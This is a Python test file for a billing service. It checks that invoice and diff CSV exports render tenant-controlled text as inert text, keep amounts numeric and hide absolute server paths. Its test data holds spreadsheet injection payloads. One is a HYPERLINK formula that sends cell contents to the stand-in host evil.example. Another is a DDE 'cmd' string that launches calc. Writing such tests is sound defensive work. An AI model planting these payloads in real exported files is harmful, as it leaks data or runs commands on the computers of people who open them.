"""Formula injection through the CSVs rerate hands out, end to end.

A custom item's description and a SKU from imported usage are text the
tenant (or their usage source) controls; in the invoice and diff CSVs they
must reach a spreadsheet as text, while amounts stay numbers.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pytest
from fastapi.testclient import TestClient

from rerate.billing.tasks import handlers
from rerate.jobs.worker import Worker
from rerate.kit.db import Database
from rerate.usage.schema import USAGE_SCHEMA
from tests.billing.fixtures import Billing, build_billing, import_table
from tests.world import World

EVIL_ITEM = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'
EVIL_SKU = '=HYPERLINK("http://evil.example","vm")'
ADMIN = "partner_admin"
PERIOD = "2026-09"


@pytest.fixture
def billing(database: Database, data_dir: Path, world: World) -> Billing:
    billing = build_billing(database, data_dir, world, extra_prices={EVIL_SKU: "1"})
    start = datetime(2026, 9, 3, tzinfo=UTC)
    rid = "evil-sku-row"
    row = {
        "record_id": rid,
        "content_hash": hashlib.sha256(rid.encode()).hexdigest(),
        "import_id": 0,
        "source": "focus",
        "kind": "cloud",
        "account_ref": "acc-x",
        "account_id": billing.accounts["acc-x"],
        "usage_start": start,
        "usage_end": start + timedelta(hours=1),
        "service": "",
        "sku": EVIL_SKU,
        "region": "westeurope",
        "quantity": Decimal("2"),
        "unit": "h",
        "list_cost": None,
        "currency": "EUR",
    }
    import_table(
        database,
        data_dir,
        pa.table({k: [row.get(k)] for k in USAGE_SCHEMA.names}, schema=USAGE_SCHEMA),
    )
    return billing


def _drain(database: Database, data_dir: Path) -> None:
    worker = Worker(database, handlers=handlers(data_dir), lease_s=30, expand=None)
    while worker.run_once():
        pass


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                Decimal(cell)  # only a plain number may start like a formula


def _recalculate(client: TestClient, world: World, database: Database, data_dir: Path) -> int:
    customer = world.nodes["cust_a1x"].id
    item = client.post(
        f"/api/v1/customers/{customer}/custom-line-items",
        json={"description": EVIL_ITEM, "amount": "-5.00", "one_off_date": "2026-09-10"},
        headers=world.headers(ADMIN),
    )
    assert item.status_code == 201, item.text
    r = client.post(
        "/api/v1/billing-utilities/recalculations",
        json={"customer_id": customer, "periods": [PERIOD], "reason": "other", "explanation": "x"},
        headers=world.headers(ADMIN),
    )
    assert r.status_code == 202, r.text
    _drain(database, data_dir)
    return int(r.json()["jobs"][0]["id"])


def test_invoice_and_diff_csvs_show_formulas_as_text(
    client: TestClient, billing: Billing, database: Database, data_dir: Path
):
    world = billing.world
    job_id = _recalculate(client, world, database, data_dir)

    diff = client.get(f"/api/v1/jobs/{job_id}/diff.csv", headers=world.headers(ADMIN))
    assert diff.status_code == 200, diff.text
    rows = _cells(diff.text)
    _assert_no_live_formula(rows)
    header = rows[0]
    evil = [r for r in rows if r[header.index("item")] == "'" + EVIL_SKU]
    assert len(evil) == 1
    assert Decimal(evil[0][header.index("new_amount")]) == Decimal(2)  # a number, untouched

    generated = client.post(
        "/api/v1/invoices/generate",
        json={"customer_id": world.nodes["cust_a1x"].id, "period": PERIOD},
        headers=world.headers("platform_admin"),
    )
    assert generated.status_code in (200, 201), generated.text
    invoice = client.get(
        f"/api/v1/invoices/{generated.json()['id']}/csv", headers=world.headers("platform_admin")
    )
    assert invoice.status_code == 200, invoice.text
    rows = _cells(invoice.text)
    _assert_no_live_formula(rows)
    header = rows[0]
    by_description = {r[header.index("description")]: r for r in rows[1:]}
    assert "'" + EVIL_SKU in by_description
    credit = by_description["'" + EVIL_ITEM]
    amount = credit[header.index("amount")]
    assert amount.startswith("-")  # a negative amount stays a number
    assert Decimal(amount) == Decimal("-5")


def test_the_job_page_shows_the_original_text(
    client: TestClient, billing: Billing, database: Database, data_dir: Path
):
    job_id = _recalculate(client, billing.world, database, data_dir)
    page = client.get(f"/billing/jobs/{job_id}", headers=billing.world.headers(ADMIN)).text
    assert "=HYPERLINK(&#34;http://evil.example&#34;,&#34;vm&#34;)" in page
    assert "&#39;=HYPERLINK" not in page


def test_job_results_name_no_server_path(
    client: TestClient, billing: Billing, database: Database, data_dir: Path
):
    job_id = _recalculate(client, billing.world, database, data_dir)
    for url in (f"/api/v1/jobs/{job_id}", "/api/v1/jobs"):
        r = client.get(url, headers=billing.world.headers(ADMIN))
        assert r.status_code == 200
        assert str(data_dir) not in r.text
        assert '"/' not in r.text  # no absolute path in any string value
    result = client.get(f"/api/v1/jobs/{job_id}", headers=billing.world.headers(ADMIN)).json()
    assert result["result"]["diff_file"] == f"diffs/job-{job_id}.csv"
    page = client.get(f"/billing/jobs/{job_id}", headers=billing.world.headers(ADMIN)).text
    assert str(data_dir) not in page


def test_a_result_stored_with_an_absolute_path_is_shown_without_it(
    client: TestClient, billing: Billing, database: Database, data_dir: Path
):
    """Jobs finished before `diff_file` kept `diff_path`: still served, never shown."""
    from rerate.models import Job

    job_id = _recalculate(client, billing.world, database, data_dir)
    with database.session() as s:
        job = s.get(Job, job_id)
        assert job is not None
        result = json.loads(job.result or "{}")
        result["diff_path"] = str(data_dir / result.pop("diff_file"))
        job.result = json.dumps(result)
    headers = billing.world.headers(ADMIN)
    shown = client.get(f"/api/v1/jobs/{job_id}", headers=headers)
    assert str(data_dir) not in shown.text
    assert "diff_path" not in shown.json()["result"]
    assert client.get(f"/api/v1/jobs/{job_id}/diff.csv", headers=headers).status_code == 200


def test_the_invoice_csv_escapes_every_formula_and_keeps_money_a_number():
    """Descriptions and units are tenant text; amounts at the minor unit stay numbers."""
    from rerate.invoicing.render import to_csv
    from rerate.models import Invoice, InvoiceLine

    evil = [EVIL_ITEM, "@SUM(A1:A9)", "-1+1", "+cmd|' /C calc'!A0", "\t=1+1"]
    lines = [
        InvoiceLine(
            position=i,
            kind="custom",
            description=text,
            quantity=Decimal("1.0000000000"),
            unit="@unit" if i == 1 else "",
            amount=Decimal("-250.0000000000"),
        )
        for i, text in enumerate(evil, start=1)
    ]
    invoice = Invoice(
        id=1,
        period=PERIOD,
        status="ready",
        number=None,
        currency="EUR",
        total=Decimal("-1250.0000000000"),
        lines=lines,
    )
    rows = _cells(to_csv(invoice))
    _assert_no_live_formula(rows)
    header = rows[0]
    assert [r[header.index("description")] for r in rows[1:-1]] == ["'" + e for e in evil]
    assert rows[1][header.index("unit")] == "'@unit"
    assert [r[header.index("amount")] for r in rows[1:]] == ["-250.00"] * 5 + ["-1250.00"]
    assert {r[header.index("quantity")] for r in rows[1:-1]} == {"1"}
